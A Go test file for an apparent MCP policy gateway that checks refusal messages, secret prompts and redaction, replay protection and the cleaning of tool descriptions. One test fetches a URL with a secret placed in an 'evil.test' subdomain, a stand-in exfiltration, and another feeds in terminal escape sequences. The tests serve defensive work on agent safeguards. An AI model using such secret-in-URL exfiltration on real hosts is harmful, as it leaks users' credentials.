package gateway

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chockhq/chock/compile/config"
	"github.com/chockhq/chock/eval/load"
	"github.com/chockhq/chock/internal/mcptest"
	"github.com/chockhq/chock/internal/waitfor"
	"github.com/chockhq/chock/runtime"
	"github.com/chockhq/chock/runtime/credstore"
	"github.com/chockhq/chock/runtime/mcpconn"
	"github.com/chockhq/chock/runtime/sandbox"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

func TestMain(m *testing.M) {
	sandbox.MaybeInit()  // this binary makes the sandboxes of its exec calls
	mcptest.MaybeServe() // the helper MCP server a session here starts
	os.Exit(m.Run())
}

// helperServer is a .mcp_servers entry for this test binary as the stdio
// helper server, with the extra tools named.
func helperServer(tb testing.TB, extra string) string {
	exe, err := os.Executable()
	if err != nil {
		tb.Fatal(err)
	}
	return fmt.Sprintf(`.{ .name = "helper", .command = .{ "/bin/sh", "-c", "%s=%s exec \"$0\" -test.run='^$'", %q } }`, mcptest.ServeEnv, extra, exe)
}

// fixture is a gateway in this process and its policy.
type fixture struct {
	g      *Gateway
	pol    *load.Policy
	logDir string
	log    bytes.Buffer
}

func newFixture(tb testing.TB, policy string, o Options) *fixture {
	tb.Helper()
	return newFixtureLinted(tb, policy, o, true)
}

// newFixtureLinted is newFixture; without lint the policy compiles with
// lint errors, as a bundle built elsewhere may.
func newFixtureLinted(tb testing.TB, policy string, o Options, linted bool) *fixture {
	tb.Helper()
	p, ds, err := load.FromSources(context.Background(), load.Input{Configs: []load.Source{{Name: "chock.zon", Data: []byte(policy)}}, Unlinted: !linted})
	if err != nil {
		tb.Fatalf("%v\n%v", err, ds)
	}
	f := &fixture{pol: p, logDir: tb.TempDir()}
	o.Engine, o.Config, o.Sources = p.Engine, p.Config, p.Sources
	o.Log = &lockedWriter{w: &f.log}
	tmp := tb.TempDir()
	o.NewSession = func(ctx context.Context, asker runtime.Asker) (*runtime.Session, error) {
		return runtime.New(ctx, runtime.Options{Engine: p.Engine, Config: p.Config, Asker: asker, LogDir: f.logDir, TempDir: tmp,
			Store: envStore(), BaseEnv: []string{"PATH=/usr/bin:/bin"}})
	}
	g, err := New(o)
	if err != nil {
		tb.Fatal(err)
	}
	f.g = g
	tb.Cleanup(func() { g.Close("the test ended") })
	return f
}

type lockedWriter struct {
	mu sync.Mutex
	w  *bytes.Buffer
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

// The secret value of these tests.
const secretValue = "unit-LEAKCHECK-value-16180"

func envStore() credstore.Store {
	s, _ := credstore.Open(config.StoreEnv, credstore.Options{Getenv: func(name string) string {
		if name == "TOKEN" {
			return secretValue
		}
		return ""
	}})
	return s
}

// connect serves one connection over a pair of pipes, as stdio is, and
// returns the client's session.
func (f *fixture) connect(tb testing.TB, proto string, opts *mcp.ClientOptions) *mcp.ClientSession {
	tb.Helper()
	st, ct := pipes(tb)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- f.g.ServeStdio(ctx, st) }()
	if opts == nil {
		opts = &mcp.ClientOptions{}
	}
	opts.Capabilities = &mcp.ClientCapabilities{}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "unit", Version: "0"}, opts).Connect(ctx, ct, &mcp.ClientSessionOptions{ProtocolVersion: proto})
	if err != nil {
		cancel()
		tb.Fatal(err)
	}
	tb.Cleanup(func() {
		cs.Close()
		select {
		case <-done:
		case <-time.After(20 * time.Second):
		}
		cancel()
	})
	return cs
}

// pipes are two transports joined by two OS pipes: what a client that
// starts chock mcp serve and the gateway speak over.
func pipes(tb testing.TB) (server, client mcp.Transport) {
	r1, w1, err := os.Pipe()
	if err != nil {
		tb.Fatal(err)
	}
	r2, w2, err := os.Pipe()
	if err != nil {
		tb.Fatal(err)
	}
	return &mcp.IOTransport{Reader: r1, Writer: w2}, &mcp.IOTransport{Reader: r2, Writer: w1}
}

func callText(tb testing.TB, cs *mcp.ClientSession, p *mcp.CallToolParams) (string, bool) {
	tb.Helper()
	res, err := cs.CallTool(context.Background(), p)
	if err != nil {
		tb.Fatalf("%s: %v", p.Name, err)
	}
	var parts []string
	for _, c := range res.Content {
		if t, ok := c.(*mcp.TextContent); ok {
			parts = append(parts, t.Text)
		}
	}
	text := strings.Join(parts, "\n")
	if strings.Contains(text, secretValue) {
		tb.Fatalf("%s: the secret value in the result", p.Name)
	}
	return text, res.IsError
}

// TestRefusalText is the refusal the model reads, whole: the action, the
// decision with the rule and its position, the rule's why, and nothing
// that tells the model how to change its policy.
func TestRefusalText(t *testing.T) {
	f := newFixture(t, `.{
    .policy = .{
        .rules = .{ .{ .action = "exec.path.curl", .decision = .deny, .why = "fetches go through fetch_url" } },
        .ask = .{ "exec.path.true" },
    },
}`, Options{})
	cs := f.connect(t, "2025-11-25", nil)
	text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"curl", "x"}}})
	want := `refused by chock: exec.path.curl
decision: exec.path.curl is deny, by the project rule "exec.path.curl" (deny) at chock.zon:3:34
why: fetches go through fetch_url`
	if !isErr || text != want {
		t.Errorf("got %v\n%s\nwant\n%s", isErr, text, want)
	}
	text, _ = callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"ls"}}})
	want = `refused by chock: exec.path.ls
decision: exec.path.ls is deny, by the project default (deny, not written)`
	if text != want {
		t.Errorf("got\n%s\nwant\n%s", text, want)
	}
	for _, edit := range []string{"hint", ".policy.allow", "add ", "change the rule", "to allow"} {
		if strings.Contains(text, edit) {
			t.Errorf("the refusal tells the model how to widen its policy (%q):\n%s", edit, text)
		}
	}
	// A tool's arguments are checked strictly, and answered as a tool error.
	text, isErr = callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"true"}, "shell": true}})
	if !isErr || !strings.Contains(text, `unknown field "shell"`) {
		t.Errorf("an unknown argument: %v %q", isErr, text)
	}
	text, isErr = callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{}}})
	if !isErr || text != "exec: exec needs argv" {
		t.Errorf("no argv: %v %q", isErr, text)
	}
	text, isErr = callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"true"}, "timeout": 2.5}})
	if !isErr || !strings.Contains(text, "exec.path.true is ask") {
		t.Errorf("a numeric timeout: %v %q", isErr, text)
	}
}

// TestAskModes: --ask deny refuses every ask, even from a client that can
// be asked; --ask prompt asks at the terminal a client that cannot.
func TestAskModes(t *testing.T) {
	policy := `.{ .policy = .{ .ask = .{ "exec.path.true" } } }`
	elicit := &mcp.ClientOptions{ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": true}}, nil
	}}
	deny := newFixture(t, policy, Options{Ask: AskDeny})
	text, isErr := callText(t, deny.connect(t, "2025-11-25", elicit), &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"true"}}})
	if !isErr || !strings.Contains(text, "ask could not be put: chock mcp serve runs with --ask deny") {
		t.Errorf("--ask deny: %v %q", isErr, text)
	}
	var term bytes.Buffer
	prompt := newFixture(t, policy, Options{Ask: AskPrompt, Prompter: &runtime.TerminalAsker{In: strings.NewReader("y\nn\n"), Out: &term}})
	cs := prompt.connect(t, "2025-11-25", nil)
	if text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"true"}}}); isErr {
		t.Errorf("--ask prompt, y: %q", text)
	}
	if text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"true"}}}); !isErr || !strings.Contains(text, "the answer was no") {
		t.Errorf("--ask prompt, n: %q", text)
	}
	if !strings.Contains(term.String(), "Allow exec.path.true this once?") || !strings.Contains(term.String(), "chock.zon:1:") {
		t.Errorf("the terminal was shown:\n%s", term.String())
	}
}

// TestSecretAsked: a program's secret whose secret.use asks is put to the
// client before the call, with the call's own ask, and each answer goes
// to its question.
func TestSecretAsked(t *testing.T) {
	f := newFixture(t, `.{
    .policy = .{ .ask = .{ "exec.path.sh", "secret.use.TOKEN" } },
    .secrets = .{.{ .name = "TOKEN", .to = "exec.path.sh" }},
    .credentials = .{ .store = .env },
}`, Options{})
	for _, proto := range []string{"2025-11-25", "2026-07-28"} {
		var mu sync.Mutex
		var asked []string
		cs := f.connect(t, proto, &mcp.ClientOptions{ElicitationHandler: func(_ context.Context, r *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			mu.Lock()
			defer mu.Unlock()
			asked = append(asked, strings.SplitN(r.Params.Message, "\n", 2)[0])
			// yes to the program, no to the secret
			return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": !strings.Contains(r.Params.Message, "before secret.use")}}, nil
		}})
		text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"sh", "-c", "echo $TOKEN"}}})
		if !isErr || !strings.Contains(text, "refused by chock: exec.path.sh") || !strings.Contains(text, "secret TOKEN: the policy asks, and the answer was no") {
			t.Errorf("%s: %v %q", proto, isErr, text)
		}
		mu.Lock()
		if strings.Join(asked, "|") != "chock: the policy asks before exec.path.sh.|chock: the policy asks before secret.use.TOKEN." &&
			strings.Join(asked, "|") != "chock: the policy asks before secret.use.TOKEN.|chock: the policy asks before exec.path.sh." {
			t.Errorf("%s: asked %q", proto, asked)
		}
		mu.Unlock()
	}
}

// TestRequestState: an input_required round is redeemed once, by the call
// it was given for; a replayed or foreign state carries no answers.
func TestRequestState(t *testing.T) {
	f := newFixture(t, `.{ .policy = .{ .ask = .{ "exec.path.true", "exec.path.echo" } } }`, Options{})
	cs := f.connect(t, "2026-07-28", &mcp.ClientOptions{
		MultiRoundTrip:     &mcp.MultiRoundTripOptions{Disabled: true},
		ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) { return nil, nil },
	})
	ctx := context.Background()
	args := map[string]any{"argv": []string{"true"}}
	res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "exec", Arguments: args})
	if err != nil || !res.NeedsInput() || len(res.InputRequests) != 1 || res.RequestState == "" {
		t.Fatalf("first round: %+v %v", res, err)
	}
	ep, _ := res.InputRequests["ask-1"].(*mcp.ElicitParams)
	if ep == nil || !strings.Contains(ep.Message, "exec.path.true") {
		t.Fatalf("the question: %+v", res.InputRequests)
	}
	yes := mcp.InputResponseMap{"ask-1": &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": true}}}
	// Another call cannot redeem it.
	res2, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"echo"}}, InputResponses: yes, RequestState: res.RequestState})
	if err != nil || !res2.IsError || !strings.Contains(fmt.Sprint(res2.Content[0].(*mcp.TextContent).Text), "answers chock did not ask for") {
		t.Fatalf("a foreign call: %+v %v", res2, err)
	}
	// The state was used up by that try: the right call now gets nothing.
	res3, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "exec", Arguments: args, InputResponses: yes, RequestState: res.RequestState})
	if err != nil || !res3.IsError {
		t.Fatalf("a used state: %+v %v", res3, err)
	}
	// A fresh round, answered, runs the call; replayed, it does not.
	res, _ = cs.CallTool(ctx, &mcp.CallToolParams{Name: "exec", Arguments: args})
	res4, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "exec", Arguments: args, InputResponses: yes, RequestState: res.RequestState})
	if err != nil || res4.IsError {
		t.Fatalf("answered: %+v %v %s", res4, err, res4.Content[0].(*mcp.TextContent).Text)
	}
	res5, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "exec", Arguments: args, InputResponses: yes, RequestState: res.RequestState})
	if err != nil || !res5.IsError {
		t.Fatalf("replayed: %+v %v", res5, err)
	}
}

// TestUpstreamOffered: a server's tools as they are offered (a denied one
// hidden, and refused by name), its description and schema cleaned.
func TestUpstreamOffered(t *testing.T) {
	f := newFixture(t, fmt.Sprintf(`.{
    .policy = .{ .allow = .{ "mcp.helper.tool.*" }, .deny = .{ "mcp.helper.tool.net" } },
    .mcp_servers = .{ %s },
}`, helperServer(t, "fail")), Options{})
	cs := f.connect(t, "2025-11-25", nil)
	res, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tl := range res.Tools {
		names = append(names, tl.Name)
		if tl.Name == "helper__fail" && tl.Description != "fails [31mloudly]0;title" {
			t.Errorf("fail's description = %q", tl.Description)
		}
	}
	if strings.Join(names, " ") != "exec fetch_url helper__echo helper__env helper__fail" {
		t.Errorf("tools = %v", names)
	}
	text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "helper__net"})
	if !isErr || !strings.HasPrefix(text, "refused by chock: mcp.helper.tool.net\ndecision: mcp.helper.tool.net is deny") {
		t.Errorf("net by name: %q", text)
	}
	// A server's JSON-RPC error is a tool error the model reads, not one of the protocol.
	text, isErr = callText(t, cs, &mcp.CallToolParams{Name: "helper__fail"})
	if !isErr || !strings.HasPrefix(text, "chock: the call failed: ") || strings.ContainsAny(text, "\x1b\u202e") {
		t.Errorf("fail: %q", text)
	}
	// A name that is no server's tool is the protocol's unknown tool.
	if _, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "nobody__x"}); err == nil {
		t.Error("nobody__x: no error")
	}
}

func TestSchema(t *testing.T) {
	clean := func(s string) string { return strings.ReplaceAll(s, "SECRET", "[secret:S]") }
	for in, want := range map[string]string{
		`{"type":"object","properties":{"a\u202e":{"type":"string","description":"x\u0007SECRET"}}}`: `{"properties":{"a‮":{"description":"x\u0007[secret:S]","type":"string"}},"type":"object"}`,
		`{"properties":{}}`: `{"properties":{},"type":"object"}`,
		`{"type":"array"}`:  `{"type":"object"}`,
		`[1,2]`:             `{"type":"object"}`,
		`not json`:          `{"type":"object"}`,
		``:                  `{"type":"object"}`,
	} {
		b, _ := json.Marshal(schema(json.RawMessage(in), clean))
		if string(b) != want {
			t.Errorf("schema(%s) = %s, want %s", in, b, want)
		}
	}
	deep := strings.Repeat(`{"a":`, 40) + `1` + strings.Repeat(`}`, 40)
	if b, _ := json.Marshal(schema(json.RawMessage(`{"type":"object","x":`+deep+`}`), clean)); string(b) != `{"type":"object"}` {
		t.Errorf("a deep schema = %s", b)
	}
	big := `{"type":"object","description":"` + strings.Repeat("x", maxSchema) + `"}`
	if b, _ := json.Marshal(schema(json.RawMessage(big), clean)); string(b) != `{"type":"object"}` {
		t.Errorf("a big schema = %.60s", b)
	}
	tl := reserved("s__t", mcpconn.Tool{Name: "t", Description: "a\x1b[2Jb\u200bc SECRET", InputSchema: json.RawMessage(`{"type":"object"}`)}, clean)
	if tl.Description != "a[2Jbc [secret:S]" {
		t.Errorf("description = %q", tl.Description)
	}
}

func TestUpstreamOf(t *testing.T) {
	c := &conn{servers: []runtime.ServerStatus{{Name: "a"}, {Name: "a__b"}, {Name: "notion"}}}
	for name, want := range map[string]upstream{
		"a__x":           {server: "a", tool: "x"},
		"a__b_c":         {server: "a", tool: "b_c"},
		"notion__search": {server: "notion", tool: "search"},
	} {
		if got, ok := c.upstreamOf(name); !ok || got != want {
			t.Errorf("upstreamOf(%q) = %v %v, want %v", name, got, ok, want)
		}
	}
	// a__b__c would be server a's b__c and server a__b's c: neither.
	for _, name := range []string{"a__", "b__x", "exec", "notion_search", "a__b__c"} {
		if got, ok := c.upstreamOf(name); ok {
			t.Errorf("upstreamOf(%q) = %v", name, got)
		}
	}
}

// TestFetchAndBackground: fetch_url's refusals and a background program,
// as the model reads them.
func TestFetchAndBackground(t *testing.T) {
	f := newFixture(t, `.{ .policy = .{ .allow = .{ "net.fetch.com.example", "exec.path.sleep" } } }`, Options{})
	cs := f.connect(t, "2025-11-25", nil)
	text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "fetch_url", Arguments: map[string]any{"url": "http://example.com/"}})
	if !isErr || text != "refused by chock: net.fetch.com.example\nreason: fetch_url takes https only, not http" {
		t.Errorf("http: %v %q", isErr, text)
	}
	text, isErr = callText(t, cs, &mcp.CallToolParams{Name: "fetch_url", Arguments: map[string]any{"url": "https://other.example.org/"}})
	if !isErr || !strings.HasPrefix(text, "refused by chock: net.fetch.org.example.other\ndecision: net.fetch.org.example.other is deny, by the project default") {
		t.Errorf("another host: %v %q", isErr, text)
	}
	text, isErr = callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"sleep", "30"}, "background": true}})
	if isErr || !strings.HasPrefix(text, "started in the background, pid ") || !strings.HasSuffix(text, " (given no secrets)") {
		t.Errorf("background: %v %q", isErr, text)
	}
}

// TestHTTPOutsideASession: over HTTP, a request that is neither part of a
// session nor an initialize is answered with an error, never with tools
// of a session nobody opened; a batch holding an initialize opens one.
func TestHTTPOutsideASession(t *testing.T) {
	f := newFixture(t, `.{ .policy = .{ .allow = .{ "exec.path.true" } } }`, Options{})
	srv := httptest.NewServer(f.g.Handler("tok"))
	defer srv.Close()
	post := func(body string) string {
		req, _ := http.NewRequest(http.MethodPost, srv.URL+"/mcp", strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer tok")
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return fmt.Sprintf("%d %s", resp.StatusCode, b)
	}
	got := post(`{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{}}`)
	if strings.Contains(got, `"tools"`) || !strings.Contains(got, "error") {
		t.Errorf("tools/list outside a session: %s", got)
	}
	if n := len(f.g.live()); n != 0 {
		t.Errorf("%d sessions opened by it", n)
	}
	init := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-03-26","capabilities":{},"clientInfo":{"name":"batch","version":"1"}}}`
	if got := post("[" + init + "]"); !strings.Contains(got, `"serverInfo"`) {
		t.Errorf("a batched initialize: %s", got)
	}
	if n := len(f.g.live()); n != 1 {
		t.Errorf("%d sessions after a batched initialize, want 1", n)
	}
}

// TestRefusalIsRedacted: a refusal quotes the action the agent's URL
// made; a value the session holds is masked in it.
func TestRefusalIsRedacted(t *testing.T) {
	f := newFixture(t, `.{
    .policy = .{ .allow = .{ "exec.path.sh" } },
    .secrets = .{ .{ .name = "TOKEN", .to = "exec.path.sh" } },
    .credentials = .{ .store = .env },
}`, Options{})
	cs := f.connect(t, "2025-11-25", nil)
	// callText fails the test if the value is in the result.
	text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "fetch_url", Arguments: map[string]any{"url": "https://" + secretValue + ".evil.test/"}})
	if !isErr || !strings.Contains(text, "[secret:TOKEN]") {
		t.Fatalf("%v %q", isErr, text)
	}
}

// TestCollidingToolNamesAreOfferedForNeither (issue 24, item 9): server
// a's tool b__c and server a__b's tool c would both be offered as
// a__b__c; neither is, each is logged as tool.hidden naming the other,
// and a call of the name reaches neither server. Lint refuses the name
// a__b (server-name-separator); a bundle built elsewhere may still hold it.
func TestCollidingToolNamesAreOfferedForNeither(t *testing.T) {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	server := func(name, extra string) string {
		return fmt.Sprintf(`.{ .name = %q, .command = .{ "/bin/sh", "-c", "%s=%s exec \"$0\" -test.run='^$'", %q } }`, name, mcptest.ServeEnv, extra, exe)
	}
	policy := fmt.Sprintf(`.{
    .policy = .{ .allow = .{ "mcp.a.tool.*", "mcp.a__b.tool.*" } },
    .mcp_servers = .{ %s, %s },
}`, server("a", "b__c"), server("a__b", "c"))
	_, ds, err := load.FromSources(context.Background(), load.Input{Configs: []load.Source{{Name: "chock.zon", Data: []byte(policy)}}})
	refused := false
	for _, d := range ds {
		refused = refused || d.Code == "server-name-separator"
	}
	if err == nil || !refused {
		t.Fatalf("lint let the server name a__b pass: %v %v", err, ds)
	}
	f := newFixtureLinted(t, policy, Options{}, false)
	cs := f.connect(t, "2025-11-25", nil)
	res, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tl := range res.Tools {
		names = append(names, tl.Name)
	}
	// Both servers are up: their own tools are offered.
	if got := strings.Join(names, " "); !strings.Contains(got, "a__echo") || !strings.Contains(got, "a__b__echo") || strings.Contains(got, "a__b__c") {
		t.Fatalf("tools = %v", names)
	}
	if _, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "a__b__c"}); err == nil {
		t.Error("a__b__c: a call of the colliding name reached a server")
	}
	cs.Close()
	var log string
	waitfor.Poll(t, 20*time.Second, "the session's end in its log", func() bool {
		files, _ := filepath.Glob(filepath.Join(f.logDir, "*.jsonl"))
		log = ""
		for _, p := range files {
			b, _ := os.ReadFile(p)
			log += string(b)
		}
		return strings.Contains(log, `"session.end"`)
	})
	hidden := map[string]string{}
	for _, line := range strings.Split(log, "\n") {
		var ev map[string]any
		if json.Unmarshal([]byte(line), &ev) == nil && ev["kind"] == "tool.hidden" && ev["name"] == "a__b__c" {
			hidden[fmt.Sprint(ev["action"])] = fmt.Sprint(ev["rule"])
		}
	}
	for act, other := range map[string]string{"mcp.a.tool.b__c": "server a__b's tool c", "mcp.a__b.tool.c": "server a's tool b__c"} {
		if !strings.Contains(hidden[act], other) {
			t.Errorf("tool.hidden of %s: %q, want it to name %s (all: %v)", act, hidden[act], other, hidden)
		}
	}
}

// TestNetworkRefusalInTheResult: a connection the policy refuses is named
// at the end of the exec tool's result, with the rule and its why, and no
// word of how to change the policy.
func TestNetworkRefusalInTheResult(t *testing.T) {
	f := newFixture(t, `.{
    .policy = .{
        .allow = .{ "exec.path.curl" },
        .rules = .{ .{ .action = "net.connect.com.example.*", .decision = .deny, .why = "no uploads to example.com" } },
    },
}`, Options{})
	cs := f.connect(t, "2025-11-25", nil)
	text, _ := callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"curl", "-sS", "http://www.example.com/"}}})
	want := "network:\nrefused by chock: net.connect.com.example.www (port 80) is deny by project rule \"net.connect.com.example.*\" at chock.zon:4:34; why: no uploads to example.com\n"
	if !strings.HasSuffix(text, want) {
		t.Errorf("got\n%s\nwant it to end\n%s", text, want)
	}
	for _, edit := range []string{"hint", ".policy.allow", "add ", "to allow"} {
		if strings.Contains(text, edit) {
			t.Errorf("the result tells the model how to widen its policy (%q):\n%s", edit, text)
		}
	}
}

// TestArgsRuleThroughTheGateway: the exec tool's call is decided with its
// arguments: git push is refused by the .args rule however it is
// written, git status runs.
func TestArgsRuleThroughTheGateway(t *testing.T) {
	f := newFixture(t, `.{
    .policy = .{
        .allow = .{ "exec.path.git" },
        .rules = .{ .{ .action = "exec.path.git", .decision = .deny, .args = .{ "push" }, .why = "pushes go through the merge queue" } },
    },
}`, Options{})
	cs := f.connect(t, "2025-11-25", nil)
	for _, argv := range [][]string{{"git", "push"}, {"git", "-C", ".", "push", "origin"}} {
		text, _ := callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": argv}})
		if !strings.Contains(text, `refused by chock: exec.path.git`) || !strings.Contains(text, `.args = .{ "push" }`) {
			t.Errorf("%q: %s", argv, text)
		}
	}
	text, _ := callText(t, cs, &mcp.CallToolParams{Name: "exec", Arguments: map[string]any{"argv": []string{"git", "--version"}}})
	if !strings.Contains(text, "git version") {
		t.Errorf("git --version: %s", text)
	}
}
